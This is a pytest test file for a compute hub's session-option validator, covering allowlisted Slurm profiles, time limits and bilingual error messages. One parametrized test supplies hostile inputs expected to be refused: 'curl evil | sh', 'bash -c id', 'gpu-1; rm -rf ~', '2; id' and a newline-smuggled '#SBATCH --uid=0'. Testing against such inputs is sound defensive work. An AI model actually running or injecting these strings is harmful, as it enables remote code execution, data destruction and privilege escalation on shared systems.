"""User options: only allowlisted keys and values become a SessionRequest."""

from pathlib import Path

import pytest
from aifl_hub.options import ALLOWED_KEYS, OptionsError, SessionRequest, validate_options
from aifl_hub.site import load_site
from hypothesis import given, settings
from hypothesis import strategies as st

SITE = load_site(Path(__file__).resolve().parents[1] / "hub_config" / "site.yaml")
SLUGS = {p["slug"]: p["slurm_override"] for p in SITE["spawner"]["profiles"]}


def test_defaults_to_the_default_profile_with_its_longest_time():
    request = validate_options(SITE, {})
    profile = SLUGS[SITE["spawner"]["default_profile"]]
    assert request == SessionRequest(profile=SITE["spawner"]["default_profile"], partition=profile["partition"],
                                     gpus=profile["gpus"], cpus=profile["cpus"], memory_gb=profile["memory_gb"],
                                     hours=profile["hours"], account="lab", qos="interactive")


def test_form_lists_and_json_values_are_both_accepted():
    assert validate_options(SITE, {"profile": ["gpu-1"], "hours": ["3"]}).hours == 3
    request = validate_options(SITE, {"profile": "gpu-1", "hours": 2})
    assert (request.gpus, request.partition, request.hours) == (1, "gpu", 2)


@pytest.mark.parametrize(("options", "field"), [
    ({"cmd": "bash -c id"}, "cmd"),
    ({"prologue": "curl evil | sh"}, "prologue"),
    ({"exec_prefix": "sudo"}, "exec_prefix"),
    ({"options": "--uid=0"}, "options"),
    ({"profile": "gpu-1\n#SBATCH --uid=0"}, "profile"),
    ({"profile": "gpu-1; rm -rf ~"}, "profile"),
    ({"profile": "GPU-1"}, "profile"),
    ({"profile": ["gpu-1", "gpu-4"]}, "profile"),
    ({"profile": 1}, "profile"),
    ({"hours": "2; id"}, "hours"),
    ({"hours": "0"}, "hours"),
    ({"hours": 99}, "hours"),
    ({"hours": True}, "hours"),
    ({"hours": 1.5}, "hours"),
    ({"hours": -1}, "hours"),
])
def test_hostile_or_wrong_options_are_refused(options, field):
    with pytest.raises(OptionsError) as info:
        validate_options(SITE, options)
    assert info.value.field == field


def test_messages_come_in_dutch_and_english():
    with pytest.raises(OptionsError) as en:
        validate_options(SITE, {"hours": "99"}, "en")
    with pytest.raises(OptionsError) as nl:
        validate_options(SITE, {"hours": "99"}, "nl")
    assert en.value.message == "Choose between 1 and 2 hours for this profile."
    assert nl.value.message == "Kies tussen 1 en 2 uur voor dit profiel."


values = st.one_of(st.text(max_size=30), st.integers(-10**6, 10**6), st.floats(allow_nan=True), st.booleans(),
                   st.none(), st.lists(st.text(max_size=10), max_size=3))


@settings(max_examples=400, deadline=None)
@given(st.dictionaries(st.one_of(st.sampled_from([*ALLOWED_KEYS, "cmd", "partition"]), st.text(max_size=12)),
                       values, max_size=4))
def test_no_generated_input_outside_the_allowlist_is_accepted(options):
    try:
        request = validate_options(SITE, options)
    except OptionsError:
        return
    assert set(options) <= set(ALLOWED_KEYS)
    assert request.profile in SLUGS
    override = SLUGS[request.profile]
    assert (request.partition, request.gpus, request.cpus) == (override["partition"], override["gpus"],
                                                               override["cpus"])
    assert 1 <= request.hours <= override["hours"]
